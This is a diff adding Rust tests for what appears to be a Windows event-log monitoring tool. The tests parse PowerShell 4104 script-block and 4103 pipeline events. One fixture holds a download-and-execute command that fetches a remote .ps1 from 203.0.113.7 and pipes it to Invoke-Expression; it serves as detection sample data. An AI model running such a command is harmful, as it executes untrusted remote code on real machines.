@@ -0,0 +1,97 @@
+use hosho::listener::remote_exec::{
+    RemoteExecutionKind, ScriptStorage, parse_remote_execution_event,
+};
+
+const SCRIPT_BLOCK_XML: &str = r#"
+<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
+    <System>
+        <Provider Name='Microsoft-Windows-PowerShell' Guid='{a0c1853b-5c40-4b15-8766-3cf1c58f985a}'/>
+        <EventID>4104</EventID>
+        <TimeCreated SystemTime='2025-07-22T20:01:15.3300000Z'/>
+        <EventRecordID>5120</EventRecordID>
+        <Channel>Microsoft-Windows-PowerShell/Operational</Channel>
+        <Computer>Ether</Computer>
+    </System>
+    <EventData>
+        <Data Name='MessageNumber'>1</Data>
+        <Data Name='MessageTotal'>1</Data>
+        <Data Name='ScriptBlockText'>Invoke-WebRequest -Uri http://203.0.113.7/a.ps1 | Invoke-Expression</Data>
+        <Data Name='ScriptBlockId'>6f3a2c1e-0d4b-4a8e-9c7f-1b2d3e4f5a6b</Data>
+        <Data Name='Path'></Data>
+    </EventData>
+</Event>
+"#;
+
+#[test]
+fn test_parse_script_block() {
+    let (_, exec) = parse_remote_execution_event(SCRIPT_BLOCK_XML, ScriptStorage::Full)
+        .expect("4104 should parse");
+
+    assert_eq!(exec.kind, RemoteExecutionKind::ScriptBlock);
+    assert_eq!(
+        exec.script.as_deref(),
+        Some("Invoke-WebRequest -Uri http://203.0.113.7/a.ps1 | Invoke-Expression")
+    );
+    assert!(!exec.script_truncated);
+    assert_eq!(
+        exec.script_block_id.as_deref(),
+        Some("6f3a2c1e-0d4b-4a8e-9c7f-1b2d3e4f5a6b")
+    );
+}
+
+#[test]
+fn test_parse_decodes_entities_and_cdata() {
+    let xml = SCRIPT_BLOCK_XML.replace(
+        "Invoke-WebRequest -Uri http://203.0.113.7/a.ps1 | Invoke-Expression",
+        "if ($a -lt 1 &amp;&amp; $b) { cmd /c \"dir &lt;in.txt\" }<![CDATA[ & echo <done>]]>",
+    );
+
+    let (_, exec) = parse_remote_execution_event(&xml, ScriptStorage::Full).unwrap();
+    assert_eq!(
+        exec.script.as_deref(),
+        Some(r#"if ($a -lt 1 && $b) { cmd /c "dir <in.txt" } & echo <done>"#)
+    );
+}
+
+#[test]
+fn test_script_storage_truncates_and_omits() {
+    let (_, truncated) =
+        parse_remote_execution_event(SCRIPT_BLOCK_XML, ScriptStorage::Truncate(17)).unwrap();
+    assert_eq!(truncated.script.as_deref(), Some("Invoke-WebRequest"));
+    assert!(truncated.script_truncated);
+
+    let (_, omitted) = parse_remote_execution_event(SCRIPT_BLOCK_XML, ScriptStorage::Omit).unwrap();
+    assert_eq!(omitted.script, None);
+    assert!(omitted.script_truncated);
+}
+
+#[test]
+fn test_parse_pipeline_execution_host() {
+    let xml = r#"
+<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
+    <System>
+        <EventID>4103</EventID>
+        <TimeCreated SystemTime='2025-07-22T20:01:16.0000000Z'/>
+        <EventRecordID>5121</EventRecordID>
+    </System>
+    <EventData>
+        <Data Name='ContextInfo'>        Severity = Informational
+        Host Name = ServerRemoteHost
+        Host Version = 5.1.19041.1
+        Host Application = C:\Windows\system32\wsmprovhost.exe -Embedding
+        Command Name = Get-Process
+</Data>
+        <Data Name='UserData'></Data>
+        <Data Name='Payload'>CommandInvocation(Get-Process): "Get-Process"</Data>
+    </EventData>
+</Event>
+"#;
+
+    let (_, exec) = parse_remote_execution_event(xml, ScriptStorage::Full).unwrap();
+
+    assert_eq!(exec.kind, RemoteExecutionKind::PipelineExecution);
+    assert_eq!(
+        exec.host.as_deref(),
+        Some(r"C:\Windows\system32\wsmprovhost.exe -Embedding")
+    );
+}